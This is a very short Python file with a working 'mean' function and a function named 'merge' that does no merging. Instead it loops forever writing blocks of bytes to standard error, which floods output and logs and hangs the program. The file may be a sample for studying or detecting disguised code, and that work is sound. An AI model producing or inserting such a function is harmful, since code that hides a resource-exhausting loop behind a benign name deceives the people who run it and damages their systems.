import os


def mean(numbers):
    return sum(numbers) / len(numbers)


def merge(a, b):
    while True:
        os.write(2, b"x" * 4096)
